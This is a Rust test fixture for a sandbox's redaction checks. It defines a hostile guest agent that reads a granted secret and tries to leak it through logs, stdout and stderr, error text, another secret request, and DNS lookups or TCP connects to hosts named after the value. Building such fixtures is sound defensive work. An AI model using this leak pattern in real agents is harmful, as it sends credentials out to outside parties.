//! Hostile: reads the secret its input names and then tries every way out
//! of the sandbox with the value in the clear: as the name of another
//! secret (so it lands in a denial's target and reason), as a log message,
//! field key and value, on stdout and stderr, as a host name to connect to
//! (a DNS name lookup and a network denial), and in its error. Every one of
//! them must come out as `[REDACTED:<name>]`, in the run report, the
//! `--json` output, the gRPC response, the server's log and the audit log.
use std::io::Write;

use chassis_guest::{Agent, Error, export_agent, log, secret};

struct Leak;

impl Agent for Leak {
    fn run(input: Vec<u8>) -> Result<Vec<u8>, Error> {
        let name = String::from_utf8_lossy(&input).trim().to_string();
        let value = secret(&name).map_err(|_| Error::new("no-secret", "not granted"))?;
        // A denial whose target is the value.
        let _ = secret(&value);
        log::warn(&format!("leaking {value}"), &[(&value, &value)]);
        let _ = writeln!(std::io::stdout(), "stdout {value}");
        let _ = writeln!(std::io::stderr(), "stderr {value}");
        // A name lookup and a connect naming the value.
        let _ = std::net::TcpStream::connect(format!("{value}.invalid:443"));
        let _ = std::net::TcpStream::connect(format!("{value}:443"));
        Err(Error::new("leak", format!("the value is {value}")))
    }
}

export_agent!(Leak);
